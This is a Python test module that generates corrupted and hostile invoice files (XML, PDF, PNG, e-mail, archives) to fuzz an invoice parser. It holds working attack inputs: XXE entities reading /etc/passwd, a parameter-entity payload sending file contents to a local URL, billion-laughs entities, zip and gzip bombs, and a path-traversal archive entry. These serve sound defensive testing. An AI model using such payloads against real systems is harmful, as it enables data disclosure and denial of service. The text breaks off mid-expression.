"""Bad input built from the corpora: a repeatable list of broken, hostile and odd files.

Each ``Mutation`` has a name (the test id), a kind (for counting), whether it arrives by e-mail,
and builds its bytes on demand: a few are tens of megabytes, and collecting the tests should
not build them. Randomness comes from one seed and the mutation's name, so a failing id names
the same bytes on every run (pypdf's encryption salts included: they are drawn from it too).

Byte damage (truncation, flipped bits, overwritten, zeroed, duplicated or removed chunks) goes
to XML, PDF, PNG and e-mail sources; hand-made files cover what random damage rarely hits:
DTDs and entities, odd encodings, password-protected and structurally broken PDFs, hostile
XML inside a Factur-X PDF, archives that expand without bound, oversized images, empty files
and mail in odd charsets or without its boundaries.
"""

from __future__ import annotations

import base64
import functools
import io
import random
import secrets
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from unittest import mock

from pypdf import PdfWriter

from tests.conftest import CORPORA

SEED = 20250611


@dataclass(frozen=True)
class Mutation:
    name: str
    kind: str
    build: Callable[[random.Random], bytes]
    by_email: bool = False

    def data(self) -> bytes:
        return self.build(random.Random(f"{SEED}/{self.name}"))


@functools.cache
def corpus(relative: str) -> bytes:
    return (CORPORA / relative).read_bytes()


UBL = "ubl/peppol-bis3/examples/base-example.xml"
UBL_WITH_PDF = "ubl/en16931-cen/ubl-tc434-example5.xml"
UBL_EMBEDDED = b">VGVzdGluZyBCYXNlNjQgZW5jb2Rpbmc=<"  # the base64 "PDF" inside UBL_WITH_PDF
CII = "pdf/facturx-xml-rechnung/EN16931_Einfach.cii.xml"
FACTURX = "pdf/facturx-xml-rechnung/EN16931_Einfach.pdf"
TEXT_PDF = "pdf/invoice2data/AzureInterior.pdf"
PNG = "pdf/invoice2data/SammyMaystoneLinesTest.png"
MAIL_WITH_PDF = "email/mikel-mail/attachment_pdf.eml"
MAIL_TEXT_ONLY = "email/flanker/text-only.eml"

# Sources for byte damage. Text PDFs whose damage leaves no text layer are read by OCR, and so
# is every PNG that survives its damage: those get the fast-failing damage only.
DAMAGED_SOURCES = {
    "ubl": (UBL, "all"),
    "ubl-credit-note": ("ubl/en16931-cen/ubl-tc434-creditnote1.xml", "all"),
    "ubl-with-pdf": (UBL_WITH_PDF, "all"),
    "cii": (CII, "all"),
    "facturx": (FACTURX, "all"),
    "facturx-fr": ("pdf/facturx-embedded-only/Facture_FR_BASICWL.pdf", "all"),
    "text-pdf": (TEXT_PDF, "all"),
    "png": (PNG, "truncations"),
    "mail-with-pdf": (MAIL_WITH_PDF, "all"),
    "mail-forwarded": ("email/mikel-mail/attachment_message_rfc822.eml", "all"),
    "mail-text-only": (MAIL_TEXT_ONLY, "all"),
}


# --- Byte damage -------------------------------------------------------------------------------

# The first bytes carry the magic the sniffer goes by; damage starts after them, so the reader
# of the file's kind meets the damage rather than the "unknown type" refusal.
_KEEP = 16


def _truncate(fraction: float):
    return lambda data, rng: data[: max(1, int(len(data) * fraction))]


def _truncate_random(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(_KEEP, len(data))]


def _flip_bits(count: int):
    def flip(data: bytes, rng: random.Random) -> bytes:
        out = bytearray(data)
        for _ in range(count):
            out[rng.randrange(_KEEP, len(out))] ^= 1 << rng.randrange(8)
        return bytes(out)

    return flip


def _overwrite(runs: int, length: int):
    def overwrite(data: bytes, rng: random.Random) -> bytes:
        out = bytearray(data)
        for _ in range(runs):
            start = rng.randrange(_KEEP, len(out) - length)
            out[start : start + length] = rng.randbytes(length)
        return bytes(out)

    return overwrite


def _zero(fraction: float):
    def zero(data: bytes, rng: random.Random) -> bytes:
        length = max(64, int(len(data) * fraction))
        start = rng.randrange(_KEEP, len(data) - length)
        return data[:start] + bytes(length) + data[start + length :]

    return zero


def _duplicate_chunk(data: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(_KEEP, len(data) - 256)
    chunk = data[start : start + rng.randrange(16, 256)]
    at = rng.randrange(_KEEP, len(data))
    return data[:at] + chunk + data[at:]


def _remove_chunk(data: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(_KEEP, len(data) - 256)
    return data[:start] + data[start + rng.randrange(16, 256) :]


TRUNCATIONS = {
    f"truncated-{label}": _truncate(fraction)
    for label, fraction in [
        ("0.1pct", 0.001),
        ("5pct", 0.05),
        ("25pct", 0.25),
        ("50pct", 0.5),
        ("75pct", 0.75),
        ("95pct", 0.95),
        ("99.9pct", 0.999),
    ]
} | {"truncated-random-1": _truncate_random, "truncated-random-2": _truncate_random}

DAMAGE = TRUNCATIONS | {
    "bit-flip-1": _flip_bits(1),
    "bit-flip-16": _flip_bits(16),
    "bit-flip-256": _flip_bits(256),
    "overwritten-16-bytes": _overwrite(1, 16),
    "overwritten-8x64-bytes": _overwrite(8, 64),
    "zeroed-64-bytes": _zero(0),
    "zeroed-10pct": _zero(0.1),
    "duplicated-chunk": _duplicate_chunk,
    "removed-chunk": _remove_chunk,
}


DAMAGE_FAMILIES = ("truncated", "bit-flip", "overwritten", "zeroed", "duplicated", "removed")


def _damaged() -> list[Mutation]:
    found = []
    for source, (relative, which) in DAMAGED_SOURCES.items():
        damage = DAMAGE if which == "all" else TRUNCATIONS
        for label, damage_fn in damage.items():
            family = next(f for f in DAMAGE_FAMILIES if label.startswith(f))
            found.append(
                Mutation(
                    f"{source}-{label}",
                    f"damage: {family}",
                    functools.partial(_apply, damage_fn, relative),
                    by_email=relative.endswith(".eml"),
                )
            )
    return found


def _apply(damage, relative: str, rng: random.Random) -> bytes:
    return damage(corpus(relative), rng)


# --- XML: DTDs, entities, encodings, structure ----------------------------------------------

_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
).replace("&lol0;", "lol")

DOCTYPES = {
    "billion-laughs": f"<!DOCTYPE Invoice [<!ENTITY lol0 'lol'>{_LAUGHS}]>",
    "quadratic-blowup": f'<!DOCTYPE Invoice [<!ENTITY a "{"x" * 50_000}">]>',
    "external-file-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external-url-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    "parameter-entity": (
        '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">%remote;]>'
    ),
    "parameter-entity-exfiltration": (
        '<!DOCTYPE Invoice [<!ENTITY % file SYSTEM "file:///etc/hostname">'
        "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>\">"
        "%eval;%send;]>"
    ),
    "external-dtd": '<!DOCTYPE Invoice SYSTEM "http://127.0.0.1:9/invoice.dtd">',
    "external-dtd-public": '<!DOCTYPE Invoice PUBLIC "-//X//EN" "file:///etc/passwd">',
    "empty-internal-subset": "<!DOCTYPE Invoice []>",
    "doctype-lowercase": "<!doctype Invoice>",
}
# Where the entity is used, so that a parser that resolved it would put it into a field.
_ENTITY_USE = {
    "billion-laughs": "&lol9;",
    "quadratic-blowup": "&a;" * 2_000,
    "external-file-entity": "&x;",
    "external-url-entity": "&x;",
}


def _xml_body(xml: bytes) -> bytes:
    """The document without its XML declaration."""
    return xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml


def _with_doctype(relative: str, doctype: str, use: str, prolog: str = "") -> Callable:
    def build(rng: random.Random) -> bytes:
        body = _xml_body(corpus(relative))
        if use:
            body = body.replace(b"<cbc:Note>", b"<cbc:Note>" + use.encode(), 1)
            body = body.replace(b"<ram:Content>", b"<ram:Content>" + use.encode(), 1)
        return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}{doctype}'.encode()) + body

    return build


def _xml_entities() -> list[Mutation]:
    found = [
        Mutation(
            f"{syntax}-{name}",
            "xml-dtd-entities",
            _with_doctype(relative, doctype, _ENTITY_USE.get(name, "")),
        )
        for syntax, relative in (("ubl", UBL), ("cii", CII))
        for name, doctype in DOCTYPES.items()
    ]
    laughs, xxe = DOCTYPES["billion-laughs"], DOCTYPES["external-file-entity"]
    variants = {
        "doctype-after-comment-and-pi": (xxe, "&x;", "<!-- hi --><?pi x?>\n"),
        # Beyond the prolog scan's window: only the parser's own check is left to refuse it.
        "doctype-after-2mb-of-comments": (laughs, "&lol9;", "<!--" + "x" * 2_100_000 + "-->"),
    }
    for name, (doctype, use, prolog) in variants.items():
        found.append(
            Mutation(f"ubl-{name}", "xml-dtd-entities", _with_doctype(UBL, doctype, use, prolog))
        )
    encoded = {
        "doctype-utf8-bom": lambda x: b"\xef\xbb\xbf" + x,
        "doctype-utf16-bom": lambda x: x.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "doctype-utf16le-no-bom": lambda x: (
            x.decode().replace("UTF-8", "UTF-16").encode("utf-16-le")
        ),
        "doctype-utf32": lambda x: x.decode().replace("UTF-8", "UTF-32").encode("utf-32"),
        "doctype-ebcdic": lambda x: x.decode().replace("UTF-8", "IBM037").encode("cp037"),
        "doctype-leading-whitespace": lambda x: b" \r\n\t" + x,
    }
    for name, encode in encoded.items():
        build = _with_doctype(UBL, xxe, "&x;")
        found.append(
            Mutation(f"ubl-{name}", "xml-dtd-entities", lambda rng, b=build, e=encode: e(b(rng)))
        )
    no_doctype = {
        "xinclude-etc-passwd": (
            b"<cbc:Note>",
            b'<cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="file:///etc/passwd" parse="text"/>',
        ),
        "stylesheet-pi-url": (
            b"<Invoice",
            b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?><Invoice',
        ),
        "schema-location-url": (
            b"<Invoice ",
            b'<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            b'xsi:schemaLocation="urn:x http://127.0.0.1:9/x.xsd" ',
        ),
        "undeclared-entity": (b"<cbc:Note>", b"<cbc:Note>&undeclared;"),
    }
    for name, (old, new) in no_doctype.items():
        found.append(Mutation(f"ubl-{name}", "xml-hostile", _replace(UBL, old, new)))
    return found


def _replace(relative: str, old: bytes, new: bytes, count: int = 1) -> Callable:
    def build(rng: random.Random) -> bytes:
        data = corpus(relative)
        assert old in data, (relative, old)
        return data.replace(old, new, count)

    return build


def _xml_encodings() -> list[Mutation]:
    declaration = b'<?xml version="1.0" encoding="UTF-8"?>'
    note = b"<cbc:Note>"
    cases = {
        "declared-utf16-is-utf8": (declaration, declaration.replace(b"UTF-8", b"UTF-16")),
        "declared-unknown-encoding": (declaration, declaration.replace(b"UTF-8", b"x-bogus")),
        "declared-utf7": (declaration, declaration.replace(b"UTF-8", b"UTF-7")),
        "declared-shift-jis-with-bad-bytes": (
            declaration,
            declaration.replace(b"UTF-8", b"Shift_JIS") + b"<!-- \x81\xff\xa0 -->",
        ),
        "declared-windows-1252": (declaration, declaration.replace(b"UTF-8", b"windows-1252")),
        "xml-version-9": (declaration, declaration.replace(b'"1.0"', b'"9.9"')),
        "invalid-utf8": (note, note + b"\xff\xfe\xfd"),
        "latin1-in-utf8": (note, note + b"Caf\xe9 cr\xe8me"),
        "overlong-utf8": (note, note + b"\xc0\xaf\xe0\x80\xaf"),
        "utf8-surrogate": (note, note + b"\xed\xa0\x80"),
        "nul-byte": (note, note + b"a\x00b"),
        "control-chars": (note, note + b"\x01\x02\x1b[31m"),
        "char-ref-nul": (note, note + b"&#0;"),
        "char-ref-surrogate": (note, note + b"&#xD800;"),
        "utf16-bom-on-utf8": (declaration, b"\xff\xfe" + declaration),
        "double-utf8-bom": (declaration, b"\xef\xbb\xbf\xef\xbb\xbf" + declaration),
    }
    return [
        Mutation(f"ubl-{name}", "xml-encoding", _replace(UBL, old, new))
        for name, (old, new) in cases.items()
    ]


def _deep_nesting(rng: random.Random) -> bytes:
    depth = 100_000
    return corpus(UBL).replace(b"<cbc:Note>", b"<cbc:Note>" + b"<a>" * depth + b"</a>" * depth, 1)


def _xml_structure() -> list[Mutation]:
    invoice_ns = b"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
    texts = {
        "ubl-root-only": b'<?xml version="1.0"?><Invoice xmlns="' + invoice_ns + b'"/>',
        "ubl-unknown-root": b'<?xml version="1.0"?><foo><bar/></foo>',
        "zugferd1-root": (
            b'<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>'
        ),
        "soap-wrapped-invoice": b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/'
        b'soap-envelope"><soap:Body>' + _xml_body(corpus(UBL)) + b"</soap:Body></soap:Envelope>",
        "two-roots": corpus(UBL) + b"<Invoice/>",
        "unclosed-cdata": corpus(UBL).replace(b"<cbc:Note>", b"<cbc:Note><![CDATA[x", 1),
        "comment-with-double-dash": corpus(UBL).replace(
            b"<cbc:Note>", b"<!-- a -- b --><cbc:Note>", 1
        ),
    }
    found = [Mutation(name, "xml-structure", lambda rng, d=data: d) for name, data in texts.items()]
    huge = {
        "deep-nesting-100k": _deep_nesting,
        "text-node-11mb": _replace(UBL, b"<cbc:Note>", b"<cbc:Note>" + b"x" * 11_000_000),
        "attribute-11mb": _replace(
            UBL, b"<cbc:Note>", b'<cbc:Note a="' + b"x" * 11_000_000 + b'">'
        ),
        "5000-attributes": _replace(
            UBL,
            b"<cbc:Note>",
            b"<cbc:Note " + b" ".join(b'a%d="1"' % i for i in range(5000)) + b">",
        ),
        "element-name-100k": _replace(UBL, b"<cbc:Note>", b"<" + b"n" * 100_000 + b"/><cbc:Note>"),
        "namespace-declarations-10k": _replace(
            UBL,
            b"<cbc:Note>",
            b"<cbc:Note " + b" ".join(b'xmlns:p%d="urn:%d"' % (i, i) for i in range(10_000)) + b">",
        ),
    }
    found += [Mutation(f"ubl-{name}", "xml-oversized", build) for name, build in huge.items()]
    values = {
        "amount-20-digits": (b">1656.25<", b">12345678901234567890.00<"),
        "amount-1000-digits": (b">1656.25<", b">" + b"9" * 1000 + b"<"),
        "amount-nan": (b">1656.25<", b">NaN<"),
        "amount-exponent": (b">1656.25<", b">1E+999999<"),
        "amount-30-decimals": (b">1656.25<", b">1656." + b"2" * 30 + b"<"),
        "date-impossible": (b"<cbc:IssueDate>", b"<cbc:IssueDate>2024-02-30"),
        "date-year-0": (b"<cbc:IssueDate>2017-11-13", b"<cbc:IssueDate>0000-01-01"),
        "currency-junk": (b'currencyID="EUR"', b'currencyID="\xe2\x82\xac\xe2\x82\xacUR!x"'),
        "invoice-number-100k": (b"<cbc:ID>Snippet1", b"<cbc:ID>" + b"N" * 100_000),
        "invoice-number-control-chars": (b"<cbc:ID>Snippet1", b"<cbc:ID>&#x7f;&#x85;\xe2\x80\xae1"),
    }
    for name, (old, new) in values.items():
        found.append(Mutation(f"ubl-{name}", "xml-values", _replace(UBL, old, new, -1)))
    found.append(
        Mutation(
            "ubl-with-pdf-bad-base64",
            "xml-values",
            _replace(UBL_WITH_PDF, UBL_EMBEDDED, b">@@not base64@@<"),
        )
    )
    return found


# --- PDF: passwords, broken structure, hostile Factur-X payloads ----------------------------


@functools.cache
def _xxe_payload() -> bytes:
    return _with_doctype(CII, DOCTYPES["external-file-entity"], "&x;")(random.Random(0))


def _write(writer: PdfWriter, rng: random.Random) -> bytes:
    buffer = io.BytesIO()
    # pypdf draws file identifiers and encryption salts from `secrets`; from the seed instead.
    with mock.patch.object(secrets, "token_bytes", rng.randbytes):
        writer.write(buffer)
    return buffer.getvalue()


def _encrypted(relative: str, user: str, owner: str | None, algorithm: str | None) -> Callable:
    def build(rng: random.Random) -> bytes:
        writer = PdfWriter(clone_from=io.BytesIO(corpus(relative)))
        with mock.patch.object(secrets, "token_bytes", rng.randbytes):
            writer.encrypt(user, owner, algorithm=algorithm)
        return _write(writer, rng)

    return build


def _facturx_with(payload: Callable[[], bytes], relative: str = FACTURX) -> Callable:
    """The Factur-X PDF with its factur-x.xml replaced by ``payload()``."""

    def build(rng: random.Random) -> bytes:
        writer = PdfWriter(clone_from=io.BytesIO(corpus(relative)))
        [embedded] = [f for f in writer.attachment_list if f.name == "factur-x.xml"]
        embedded.content = payload()
        return _write(writer, rng)

    return build


def _text_pdf_with_attachment(name: str, payload: Callable[[], bytes]) -> Callable:
    def build(rng: random.Random) -> bytes:
        writer = PdfWriter(clone_from=io.BytesIO(corpus(TEXT_PDF)))
        writer.add_attachment(name, payload())
        return _write(writer, rng)

    return build


def _pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A hand-made PDF with a correct xref table, so that only the named flaw is wrong."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"", length: int | None = None) -> bytes:
    length = len(data) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (length, extra, data)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
# A text layer long enough to be read as it is: a page without one is read by OCR, which is slow.
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font "
    b"<< /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /Im1 5 0 R "
    b">> >> >>"
)
_CONTENT = (
    b"BT /F1 12 Tf 72 720 Td (Invoice 2024-001 from Example Supplies, total 121.00 EUR) Tj ET"
)
_PICTURE = _stream(
    b"\x80",
    b"/Type /XObject /Subtype /Image /Width 1 /Height 1 "
    b"/ColorSpace /DeviceGray /BitsPerComponent 8",
)
_TEXT = _stream(_CONTENT)


@functools.cache
def _deflated_zeros(size: int, *, zlib_wrapper: bool) -> bytes:
    """``size`` zero bytes deflated, cheaply: after a full flush, each further MiB of zeros
    compresses to the same bytes, so the stream is one chunk repeated."""
    mib = 1 << 20
    assert size % mib == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
    raw = first + again * (size // mib - 1) + compressor.flush()
    if not zlib_wrapper:
        return raw
    # Adler-32 of n zero bytes: a stays 1, b sums to n.
    return b"\x78\xda" + raw + struct.pack(">I", (size % 65521) << 16 | 1)


def _flate_bomb(size: int) -> bytes:
    return _stream(_deflated_zeros(size, zlib_wrapper=True), b"/Filter /FlateDecode")


def _pdf_structure() -> list[Mutation]:
    def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R"):
        return lambda rng: _pdf(*objects, trailer=trailer)

    embedded_files = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>"
    hand_made = {
        "header-only": lambda rng: b"%PDF-1.7\n",
        "header-and-eof": lambda rng: b"%PDF-1.7\n%%EOF\n",
        "header-then-random": lambda rng: b"%PDF-1.4\n" + rng.randbytes(10_000),
        "no-root-in-trailer": pdf(_CATALOG, _PAGES, _PAGE, _TEXT, trailer=b""),
        "root-is-missing-object": pdf(_CATALOG, _PAGES, _PAGE, _TEXT, trailer=b"/Root 99 0 R"),
        "root-is-a-number": pdf(b"42", _PAGES, _PAGE, _TEXT),
        "pages-loop": pdf(_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>", _PAGE, _TEXT),
        "pages-kids-not-array": pdf(_CATALOG, b"<< /Type /Pages /Kids 7 /Count 1 >>", _PAGE, _TEXT),
        "page-count-huge": pdf(
            _CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", _PAGE, _TEXT
        ),
        "contents-self-reference": pdf(_CATALOG, _PAGES, _PAGE.replace(b"4 0 R", b"3 0 R"), _TEXT),
        "stream-length-huge": pdf(_CATALOG, _PAGES, _PAGE, _stream(_CONTENT, length=10**11)),
        "stream-length-negative": pdf(_CATALOG, _PAGES, _PAGE, _stream(_CONTENT, length=-5)),
        "nested-arrays-5k": pdf(
            _CATALOG,
            _PAGES,
            _PAGE.replace(b"/Contents", b"/X " + b"[" * 5_000 + b"]" * 5_000 + b" /Contents"),
            _TEXT,
        ),
        "nested-dicts-5k": pdf(
            _CATALOG,
            _PAGES,
            _PAGE.replace(b"/Contents", b"/X " + b"<</A " * 5_000 + b">>" * 5_000 + b" /Contents"),
            _TEXT,
        ),
        "total-20-digits": pdf(
            _CATALOG,
            _PAGES,
            _PAGE,
            _stream(
                _CONTENT + b" BT /F1 12 Tf 72 700 Td (Total EUR 12345678901234567890.00) Tj ET"
            ),
        ),
        "content-flate-bomb-4gib": lambda rng: _pdf(_CATALOG, _PAGES, _PAGE, _flate_bomb(4 * _GIB)),
        # 200 by 200 inches: 3.6 billion pixels when rendered for OCR.
        "page-200in-square-without-text": pdf(
            _CATALOG, _PAGES, _PAGE.replace(b"595 842", b"14400 14400"), _stream(b"")
        ),
        "page-200in-square-with-picture": pdf(
            _CATALOG,
            _PAGES,
            _PAGE.replace(b"595 842", b"14400 14400"),
            _stream(_CONTENT + b" q 400 0 0 100 72 500 cm /Im1 Do Q"),
            _PICTURE,
        ),
        "embedded-files-loop": pdf(embedded_files, _PAGES, _PAGE, _TEXT, b"<< /Kids [5 0 R] >>"),
        "embedded-files-names-odd": pdf(
            embedded_files, _PAGES, _PAGE, _TEXT, b"<< /Names [(factur-x.xml)] >>"
        ),
        "embedded-flate-bomb-256mb": pdf(
            embedded_files,
            _PAGES,
            _PAGE,
            _TEXT,
            b"<< /Names [(factur-x.xml) 6 0 R] >>",
            b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 7 0 R >> >>",
            _flate_bomb(256 << 20),
        ),
        "af-loop": pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AF 5 0 R >>", _PAGES, _PAGE, _TEXT, b"[5 0 R]"
        ),
        "af-filespec-without-stream": pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AF [5 0 R] >>",
            _PAGES,
            _PAGE,
            _TEXT,
            b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 99 0 R >> >>",
        ),
        "encrypt-dict-garbage": pdf(
            _CATALOG, _PAGES, _PAGE, _TEXT, trailer=b"/Root 1 0 R /Encrypt 3 0 R"
        ),
    }
    found = [Mutation(f"pdf-{name}", "pdf-structure", build) for name, build in hand_made.items()]

    def edit(relative: str, old: bytes, new: bytes, last: bool = True) -> Callable:
        def build(rng: random.Random) -> bytes:
            data = corpus(relative)
            at = data.rfind(old) if last else data.find(old)
            assert at >= 0, (relative, old)
            return data[:at] + new + data[at + len(old) :]

        return build

    for source, relative in (("facturx", FACTURX), ("text-pdf", TEXT_PDF)):
        edits = {
            "startxref-beyond-eof": edit(relative, b"startxref", b"startxref\n999999999\n%%EOF\n%"),
            "startxref-zero": edit(relative, b"startxref", b"startxref\n0\n%%EOF\n%"),
            "no-eof-marker": edit(relative, b"%%EOF", b""),
            "no-trailer": edit(relative, b"trailer", b"xxxxxxx"),
            "xref-keyword-broken": edit(relative, b"xref", b"xxxx"),
            "junk-before-header": lambda rng, r=relative: rng.randbytes(500) + corpus(r),
            "header-after-2kb-junk": lambda rng, r=relative: b"%" * 2048 + corpus(r),
        }
        found += [
            Mutation(f"{source}-{name}", "pdf-structure", build) for name, build in edits.items()
        ]
    passwords = {
        "facturx-password-rc4": _encrypted(FACTURX, "secret", None, "RC4-128"),
        "facturx-password-aes256": _encrypted(FACTURX, "secret", None, "AES-256"),
        "facturx-owner-password-only": _encrypted(FACTURX, "", "owner", "AES-128"),
        "text-pdf-password-aes128": _encrypted(TEXT_PDF, "secret", None, "AES-128"),
        "text-pdf-password-rc4-40": _encrypted(TEXT_PDF, "secret", None, "RC4-40"),
    }
    found += [Mutation(name, "pdf-password", build) for name, build in passwords.items()]
    payloads = {
        "xxe": _xxe_payload,
        "billion-laughs": lambda: _with_doctype(CII, DOCTYPES["billion-laughs"], "&lol9;")(
            random.Random(0)
        ),
        "external-dtd": lambda: _with_doctype(CII, DOCTYPES["external-dtd"], "")(random.Random(0)),
        "xxe-utf16": lambda: _xxe_payload().decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "empty": lambda: b"",
        "binary": lambda: bytes(range(256)) * 8,
        "truncated": lambda: corpus(CII)[: len(corpus(CII)) // 2],
        "not-an-invoice": lambda: b"<html><body>hi</body></html>",
        "zugferd1": lambda: (
            b'<x:CrossIndustryDocument xmlns:x="urn:ferd:CrossIndustryDocument:invoice:1p0"/>'
        ),
    }
    found += [
        Mutation(f"facturx-xml-is-{name}", "facturx-payload", _facturx_with(payload))
        for name, payload in payloads.items()
    ]
    found += [
        Mutation(
            "facturx-fr-xml-is-xxe",
            "facturx-payload",
            _facturx_with(_xxe_payload, "pdf/facturx-embedded-only/Facture_FR_BASICWL.pdf"),
        ),
        Mutation(
            "text-pdf-with-xxe-factur-x-xml",
            "facturx-payload",
            _text_pdf_with_attachment("factur-x.xml", _xxe_payload),
        ),
        Mutation(
            "text-pdf-with-xxe-other-xml",
            "facturx-payload",
            _text_pdf_with_attachment("invoice.xml", _xxe_payload),
        ),
    ]
    return found


# --- Archives ----------------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated members: (name, deflated bytes, crc32, uncompressed size)."""
    out, central = bytearray(), bytearray()
    for name, deflated, crc, size in members:
        offset = len(out)
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(deflated), size & 0xFFFFFFFF)
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name.encode() + deflated
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHII", len(name), 0, 0, 0, 0, 0)
            + struct.pack("<I", offset)
            + name.encode()
        )
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


_GIB = 1 << 30


@functools.cache
def _crc32_of_zeros(size: int) -> int:
    crc, chunk = 0, bytes(1 << 20)
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    return crc


@functools.cache
def _zip_bomb() -> bytes:
    """One member of 1 GiB of zeros, about 1 MB zipped."""
    deflated = _deflated_zeros(_GIB, zlib_wrapper=False)
    return _zip([("invoice.pdf", deflated, _crc32_of_zeros(_GIB), _GIB)])


def _nested_zip_bomb(rng: random.Random) -> bytes:
    """Sixteen copies of the 1 GiB bomb, each deflated again: 16 GiB from a few kB."""
    inner = _zip_bomb()
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(inner) + compressor.flush()
    crc = zlib.crc32(inner)
    return _zip([(f"part{n}.zip", deflated, crc, len(inner)) for n in range(16)])


def _gzip_bomb(rng: random.Random) -> bytes:
    raw = _deflated_zeros(_GIB, zlib_wrapper=False)
    trailer = struct.pack("<II", _crc32_of_zeros(_GIB), _GIB & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + raw + trailer


def _archives() -> list[Mutation]:
    return [
        Mutation("zip-bomb-1gib", "archive", lambda rng: _zip_bomb()),
        Mutation("zip-bomb-nested-16gib", "archive", _nested_zip_bomb),
        Mutation("gzip-bomb-1gib", "archive", _gzip_bomb),
        Mutation(
            "zip-path-traversal",
            "archive",
            lambda rng: _zip([("../../../etc/passwd", b"\x03\x00", 0, 0)]),
        ),
        Mutation(
            "ubl-with-zip-bomb-attachment",
            "archive",
            lambda rng: corpus(UBL_WITH_PDF).replace(
                UBL_EMBEDDED, b">" + base64.b64encode(_zip_bomb()) + b"<"
            ),
        ),
    ]


# --- Images ------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, idat: bytes, *, bit_depth: int = 8, color: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _images() -> list[Mutation]:
    side = 30_000  # 900 Mpx of 1-bit black: 112 MB of scanlines, 110 kB compressed
    rows = side * (side // 8 + 1)
    rows -= rows % (1 << 20)  # whole MiB for the cheap deflate; the image is cut short
    built = {
        "png-900mpx-compressible": lambda rng: _png(
            side, side, _deflated_zeros(rows, zlib_wrapper=True), bit_depth=1
        ),
        "png-50mb-over-pixel-cap": lambda rng: _png(8_000, 8_000, rng.randbytes(50 << 20), color=2),
        "png-50mb-garbage-pixels-within-cap": lambda rng: _png(
            4_000, 3_000, rng.randbytes(50 << 20)
        ),
        "png-zero-size": lambda rng: _png(0, 0, zlib.compress(b"")),
        "png-2g-by-2g": lambda rng: _png(0x7FFFFFFF, 0x7FFFFFFF, zlib.compress(b"\x00")),
        "png-ihdr-bad-crc": lambda rng: corpus(PNG)[:29] + b"\x00\x00\x00\x00" + corpus(PNG)[33:],
        "png-no-idat": lambda rng: corpus(PNG)[:33] + _png_chunk(b"IEND", b""),
        "jpeg-65500-square": lambda rng: (
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            + b"\xff\xc0\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00"
